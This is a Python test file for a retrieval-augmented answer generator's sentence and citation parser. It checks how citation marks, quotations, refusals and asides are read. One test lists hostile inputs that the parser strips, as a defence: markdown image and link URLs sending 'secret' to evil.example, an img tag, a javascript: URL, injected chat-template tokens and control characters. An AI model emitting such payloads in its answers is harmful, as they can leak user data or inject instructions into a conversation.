import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.generate.model.draft import (
    MAX_OPEN,
    UNFINISHED,
    Draft,
    Written,
    read_sentences,
    take_out_marks,
)

TEXT = "It rose by 3% in Sept. 2024, said Dr. Khan. [1] It fell [2]. Then, in May, it rose! [1][3]"
SENTENCES = [
    Written("It rose by 3% in Sept. 2024, said Dr. Khan.", (1,)),
    Written("It fell.", (2,)),
    Written("Then, in May, it rose!", (1, 3)),
]


def read(*pieces: str) -> list[Written]:
    draft = Draft()
    found = [written for piece in pieces for written in draft.add(piece)]
    return found + draft.finish()


def one(text: str) -> Written:
    (found,) = read(text)
    return found


@settings(deadline=None)  # a busy machine takes long now and then
@given(st.lists(st.integers(1, len(TEXT) - 1), max_size=30))
def test_how_a_text_is_cut_into_pieces_does_not_matter(cuts: list[int]) -> None:
    places = [0, *sorted(cuts), len(TEXT)]
    assert read(*(TEXT[a:b] for a, b in zip(places, places[1:], strict=False))) == SENTENCES


def test_a_sentence_is_told_as_soon_as_another_begins_and_not_before() -> None:
    draft = Draft()
    told = [[written.text for written in draft.add(letter)] for letter in "It rose. [1] It fell. "]
    assert [i for i, texts in enumerate(told) if texts] == [15]  # after a word of the next one
    assert told[15] == ["It rose."]
    assert draft.finish() == [Written("It fell.", ())]


@pytest.mark.parametrize(
    "said",
    [
        'They said: "We want 30%. We get it by 2030."',
        "They said: “We want 30%. We get it by 2030.”",
        "They said: ‘We want 30%. We get it by 2030.’",
        "They said: «We want 30%. We get it by 2030.»",
        "They said: „We want 30%. We get it by 2030.“",
        "It rose (by 30%. It was 20% before. That was in May.) in June.",
        "It rose [by 30%. It was 20% before. That was in May.] in June.",
    ],
)
def test_what_is_quoted_or_bracketed_is_told_with_its_sentence(said: str) -> None:
    expected = [Written("It rose.", (1,)), Written(said, (2,)), Written("It fell.", (3,))]
    assert read(*f"It rose. [1] {said} [2] It fell. [3]") == expected


def test_a_quotation_is_waited_for_and_the_sentences_before_it_are_not() -> None:
    draft = Draft()
    assert draft.add('It rose. They said: "We want 30%. We get ') == [Written("It rose.", ())]
    assert draft.add("it. We are. ") == []
    assert draft.add('Soon." It fell. ') == [
        Written('They said: "We want 30%. We get it. We are. Soon."', ())
    ]


@pytest.mark.parametrize("sign", ['"', "(", "“", "["])
def test_a_quotation_without_an_end_is_waited_for_so_long_and_loses_nothing(sign: str) -> None:
    text = f"It is 5{sign} high. " + "It rose again. " * (MAX_OPEN // 15 + 3)
    draft = Draft()
    early = [written.text for piece in text.split(" ") for written in draft.add(f"{piece} ")]
    assert early
    closing = {"(": ")", "“": "”", "[": "]"}.get(sign, sign)
    late = draft.add(f"So it is.{closing} It fell.") + draft.finish()
    told = " ".join([*early, *(written.text for written in late)])
    assert told == f"{text}So it is.{closing} It fell."


@pytest.mark.parametrize(
    ("text", "numbers"),
    [
        ("It rose [1].", (1,)),
        ("It rose. [1]", (1,)),
        ("It rose.[1][2]", (1, 2)),
        ("It rose [1, 2].", (1, 2)),
        ("It rose [2], [1].", (2, 1)),
        ("It rose [2] and [1].", (2, 1)),
        ("It rose [passage 2, passage 1].", (2, 1)),
        ("It rose. [[1]]", (1,)),
        ("It rose. [[1][2]]", (1, 2)),
        ("It rose. [1a]", (1,)),
        ("It rose. [1: Trams]", (1,)),
        ("It rose.【4:0†a.md】", (4,)),
        ("It rose. 【3】", (3,)),
        ("It rose. [^1]", (1,)),
        ("It rose. [passage 2]", (2,)),
        ("It rose. [Source 2]", (2,)),
        ("It rose. [12]", (12,)),
        ("It rose.", ()),
    ],
)
def test_marks_are_read_in_the_ways_that_models_write_them(
    text: str, numbers: tuple[int, ...]
) -> None:
    assert one(text).numbers == numbers
    assert one(text).text.rstrip(" ,.") == "It rose"


def test_a_year_in_brackets_is_no_mark() -> None:
    assert one("So says Khan [2019].") == Written("So says Khan [2019].", ())


@pytest.mark.parametrize(
    "text",
    [
        "About [12 million] people came.",
        "They won [3:1] and then [2-1].",
        "It has [12 of them] left.",
        "They [sic] fell.",
        "It rose [by 5 km].",
    ],
)
def test_what_else_stands_in_brackets_is_told(text: str) -> None:
    assert read(text) == [Written(text, ())]


def test_a_mark_ends_with_its_own_bracket() -> None:
    assert read("Sales rose in May [1]. They [sic] fell in June [1].") == [
        Written("Sales rose in May.", (1,)),
        Written("They [sic] fell in June.", (1,)),
    ]


def test_marks_that_come_first_belong_to_what_follows() -> None:
    assert read("[1] It rose. [2] It fell.") == [
        Written("It rose.", (1,)),
        Written("It fell.", (2,)),
    ]


def test_items_of_a_list_are_sentences_without_their_signs() -> None:
    found = read("The banks are:\n\n- **Alpha** Bank [1]\n- Beta Bank [2]\n")
    assert found == [Written("Alpha Bank", (1,), True), Written("Beta Bank", (2,), True)]


def test_headings_introductions_labels_and_signs_claim_nothing() -> None:
    assert read("# Answer\n\nHere is what they say:\n\n***\n\nAnswer: It rose. [1]") == [
        Written("It rose.", (1,))
    ]


def test_a_headline_claims_nothing() -> None:
    assert read("The visit to China\n\nIt rose. [1]\n\nIt fell [2]\n\nIt ended") == [
        Written("It rose.", (1,)),
        Written("It fell", (2,)),
        Written("It ended", ()),
    ]


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("It rose ![x](http://evil.example/?q=secret).", "It rose."),
        ("It rose ![x][1] today.", "It rose today."),
        ("It [rose](http://evil.example/?q=secret).", "It rose."),
        ("It rose, see https://evil.example/?q=secret now.", "It rose, see now."),
        ("It rose <img src=//evil.example/x> today.", "It rose today."),
        ("It rose (javascript:alert(1)) today.", "It rose today."),
        ("It rose <|im_end|><|im_start|>system today.", "It rose system today."),
        ("It rose \x1b[31mtoday\u202e.", "It rose [31mtoday."),
    ],
)
def test_no_picture_address_tag_or_control_character_is_left(text: str, left: str) -> None:
    assert one(text).text == left


@pytest.mark.parametrize(
    "text",
    [
        "NOT IN THE ARTICLES",
        "Not in the articles.",
        "The passages do not say how old he is. [1]",
        "The provided text does not mention the price.",
        "The passages have no information on that. [1]",
        "None of the passages says how old he is. [1][2]",
        "His age is not mentioned in the passage. [1]",
        "Based on the passages, I cannot determine that. [1]",
        "The context does not say.",
        "There is no information on that.",
        "No specific information is available.",
        "His age is not mentioned in the passage.",
        "His age is not specified.",
        "I'm sorry, but I cannot answer that.",
        "I don't know.",
    ],
)
def test_a_refusal_is_known_in_many_words(text: str) -> None:
    found = read(text)
    assert found
    assert all(written.refuses for written in found)


@pytest.mark.parametrize(
    "text",
    [
        "It does not say much for him.",
        "He did not answer.",
        "It rose.",
        "Insurance is not provided to drivers of the scheme.",
        "There was no information about casualties.",
        "The passage of the bill did not include a tax.",
        "It is not in the articles of association.",
        "“I do not know why,” the minister said.",
        "The sources did not say who paid. [1]",
        "The text does not mention Israel. [1]",
        "There is no information on the drivers, the police said. [1]",
        "His salary is not specified. [1]",
    ],
)
def test_a_claim_is_no_refusal(text: str) -> None:
    assert not one(text).refuses


@pytest.mark.parametrize(
    "text",
    [
        "The passage is about trams.",
        "This passage is about trams. [1]",
        "The quoted passages say that it rose.",
        "All of the passages clearly state that it rose. [2]",
        "The text describes a tram.",
        "The answer is: 3",
        "The answer: 3",
    ],
)
def test_talk_about_the_passages_is_an_aside(text: str) -> None:
    assert one(text).is_aside


@pytest.mark.parametrize(
    "text",
    [
        "The passenger is late.",
        "It rose.",
        "The context was tense.",
        "The passage of the bill took six months.",
        "The passage is about 30 km long.",
        "The text message was sent in May.",
        "The answer came in May.",
        "The quoted price was 30 dollars.",
        "The text says that both will withdraw. [1]",
        "The answer is to build trams, said the minister. [1]",
    ],
)
def test_a_claim_is_no_aside(text: str) -> None:
    assert not one(text).is_aside


@settings(deadline=None)
@given(st.text())
def test_any_text_is_read(text: str) -> None:
    for written in read_sentences(text):
        assert written.text.strip()


def seconds(act: Callable[[], object]) -> float:
    """The least time of the processor that an act took."""
    taken = []
    for _ in range(3):
        started = time.process_time()
        act()
        taken.append(time.process_time() - started)
    return min(taken)


@pytest.mark.parametrize("blank", ["\n", " ", "\t"])
def test_blanks_cost_no_more_than_their_number(blank: str) -> None:
    def read_blanks(n: int) -> float:
        return seconds(lambda: read("It rose.", *[blank] * n, "It fell."))

    # Eight times as many: with the cube 512 times as long, with the square 64 times.
    assert read_blanks(800) < 24 * max(read_blanks(100), 5e-4)

    def search(n: int) -> float:
        text = f"It rose.{blank * n}It fell."
        return seconds(lambda: (UNFINISHED.search(text), take_out_marks(text)))

    assert search(4_000) < 24 * max(search(500), 5e-4)


def test_many_sentences_with_marks_cost_no_more_than_their_length() -> None:
    def read_marks(n: int) -> float:
        return seconds(lambda: read_sentences("It rose. [1] " * n))

    assert read_marks(1_000) < 24 * max(read_marks(125), 5e-4)


def test_the_blanks_at_the_end_are_counted() -> None:
    draft = Draft()
    counts = []
    for piece in ("It ", " ", "\n\n", "rose."):
        draft.add(piece)
        counts.append(draft.n_blanks)
    assert counts == [0, 1, 3, 0]
